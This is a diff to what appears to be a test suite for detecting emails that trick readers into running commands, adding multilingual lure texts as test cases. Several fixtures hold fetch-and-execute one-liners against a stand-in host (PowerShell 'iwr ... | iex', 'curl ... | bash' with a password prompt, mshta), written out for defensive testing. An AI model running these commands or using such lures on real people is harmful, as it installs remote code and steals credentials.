@@ -15,6 +15,20 @@ describe('an email that makes its reader run a command', () => {
     ['Ukrainian', 'Якщо сторінка не відкривається: натисніть Win+R, вставте текст (Ctrl+V).'],
     ['Arabic', 'اضغط مفتاح ويندوز + R ثم الصق الرمز المنسوخ واضغط إدخال.'],
     ['Korean', '윈도우 실행창(Win+R)에 붙여넣기 하시면 됩니다.'],
+    ['Japanese', 'Windowsキー＋Rを押し、Ctrlキー＋Vで貼り付けてEnterを押してください。'],
+    ['Korean keys', '윈도우키+R을 누른 다음 Ctrl키+V를 누르고 Enter를 누르세요.'],
+    [
+      'a hidden command in Japanese',
+      'Windowsキー+Rを押して貼り付けてください。\n\npowershell -w h -c "iwr https://alder.test/a | iex"',
+    ],
+    [
+      'a download and the password',
+      'Open Terminal, paste this line and type your password:\n\ncurl -s https://alder.test/f | bash',
+    ],
+    [
+      'a download and the password in French',
+      'Ouvrez le Terminal, collez cette ligne et tapez votre mot de passe :\n\ncurl -s https://alder.test/f | bash',
+    ],
     ['a hidden command', 'Press Win+R and enter: powershell -w hidden -c "irm https://alder.test/a | iex"'],
     ['a system program', 'Press Win+R and enter: mshta https://alder.test/check.hta'],
     ['a command window named afterwards', 'Press Windows+R, then Ctrl+V. A cmd window closes by itself.'],
